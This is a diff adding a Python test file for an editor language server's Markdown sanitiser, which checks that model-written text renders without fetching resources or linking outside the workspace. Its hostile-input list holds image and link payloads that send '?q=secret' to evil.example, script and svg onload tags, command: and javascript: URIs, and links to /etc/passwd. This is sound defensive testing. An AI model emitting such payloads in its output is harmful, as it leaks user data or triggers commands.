@@ -1,0 +1,126 @@
+"""What a model writes is read, not obeyed: nothing in it is fetched when it is drawn, and no link leads out of the workspace.
+
+The cleaned text is drawn by a Markdown reader of other hands, and its HTML is looked at.
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from lsp_server.actions.markdown import Cleaner, clean
+
+HARMLESS = {
+    "code spans stay": "Use `List<int>` and `a[b](c)`.",
+    "a fence stays": "```python\nx = a < b  # ![no](image)\n```",
+    "a link to a file stays": "See [the parser](src/parse.py:12) and [this](src/a.py#L3).",
+    "headings and lists stay": "# Title\n\n- one\n- two\n\n1. **bold**\n",
+}
+HOSTILE = [
+    "![x](https://evil.example/?q=secret)",
+    "![x][ref]\n\n[ref]: https://evil.example/a.png",
+    "[x]: https://evil.example\n\n[x]",
+    "<img src=https://evil.example/a.png>",
+    "<img\nsrc='https://evil.example/a.png'>",
+    "<script>alert(1)</script>",
+    "<a href='command:x'>y</a>",
+    "<https://evil.example>",
+    "https://evil.example/?q=secret",
+    "www.evil.example/secret",
+    "[x](https://evil.example)",
+    "[x](//evil.example/a)",
+    "[x](command:workbench.action.terminal.new)",
+    "[x](vscode://file/etc/passwd)",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html,x)",
+    "[x](<https://evil.example>)",
+    "[x]( https://evil.example )",
+    "[x](/etc/passwd)",
+    "[x](../../x:y)",
+    "a ` b\n` <img src=x> `",
+    "- a\n  ```\n<img src=https://evil.example/a.png>",
+    "> ```\n<img src=https://evil.example/b.png>",
+    "~~~\n![x](https://evil.example)\n~~~",
+    "```\ncode\n````\n<img src=x>",
+    "``` `x` ```\n<img src=x>\n```",
+    "\\![x](https://evil.example/a.png)",
+    "\\\\![x](https://evil.example/a.png)",
+    "\\<img src=x>",
+    "!\\[x](https://evil.example/a.png)",
+    "[![x](https://evil.example/a.png)](https://evil.example)",
+    "\\`<img src=x>\\`",
+    "\\\\`<img src=x>`<img src=y>",
+    "`` ` <img src=x> ` ``\n`<img src=y>",
+    "    ![x](https://evil.example/indented.png)",
+    "<!-- --><img src=x>",
+    "&lt;img src=x&gt;",
+    "| a |\n| - |\n| ![x](https://evil.example/t.png) |",
+    "[x][]\n\n[x]:\nhttps://evil.example",
+    "mailto:x@evil.example",
+    "[a]\n(https://evil.example)",
+    "[x](\nhttps://evil.example)",
+    "[x](a.py 'https://evil.example')",
+    "`a\n\n![x](https://evil.example/p.png)`",
+    "\t```\n<img src=x>\n\t```",
+    "1. ```\n<img src=x>",
+    "```\u200b\n<img src=x>\n```",
+    "<svg/onload=x>",
+    "![x](data:image/png;base64,AAAA)",
+    "<iframe src=//evil.example>",
+    "[x](file:///etc/passwd)",
+    "\x00<img src=x>",
+    "[x](smb://evil.example/share)",
+    "!\u200b[x](https://evil.example)",
+]
+
+
+def drawn(text: str) -> str:
+    """As VS Code draws it: bare addresses become links, but not every word with a dot in it, which a file's name is too."""
+    reader = MarkdownIt("gfm-like", {"html": True})
+    assert reader.linkify is not None
+    reader.linkify.set({"fuzzy_link": False})
+    return str(reader.render(text))
+
+
+def check_is_harmless(html: str) -> None:
+    assert not re.search(
+        r"<(?!/?(?:p|h\d|ul|ol|li|code|pre|em|strong|a|blockquote|hr|br|table|t[rhdbo]\w*|s|del)\b)", html
+    ), html
+    assert not re.search(r"<\w+[^>]*\s(?:src|on\w+|style)=", html), html
+    for target in re.findall(r'href="([^"]*)"', html):
+        assert re.fullmatch(r"(?:\./)?\w[\w./+-]*(?:(?::|#L)\d+(?:-L?\d+)?)?", target), target
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_is_fetched_and_no_link_leads_out(text: str) -> None:
+    check_is_harmless(drawn(clean(text)))
+    check_is_harmless(drawn(clean(f"Before.\n\n{text}\n\nAfter, with `code` and *more*.")))
+
+
+@given(
+    st.lists(
+        st.sampled_from([*HOSTILE, "`", "``", "```", "\n", "\n\n", "- ", "> ", "    ", "\\", "text"]), max_size=6
+    ).map("".join)
+)
+def test_no_mixture_of_them_does_either(text: str) -> None:
+    check_is_harmless(drawn(clean(text)))
+
+
+@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS.keys())
+def test_what_is_harmless_stays_as_it_is(text: str) -> None:
+    assert clean(text) == text
+
+
+def test_bidirectional_controls_are_spelt_out() -> None:
+    assert clean("a \u202e b") == "a U+202E b"
+
+
+@given(st.lists(st.text("`[](!<>:\n ab", max_size=12), max_size=6))
+def test_pieces_come_to_the_same_as_the_whole(pieces: list[str]) -> None:
+    cleaner = Cleaner()
+    grown = "".join(cleaner.feed(piece) for piece in pieces) + cleaner.finish()
+    assert grown == clean("".join(pieces))
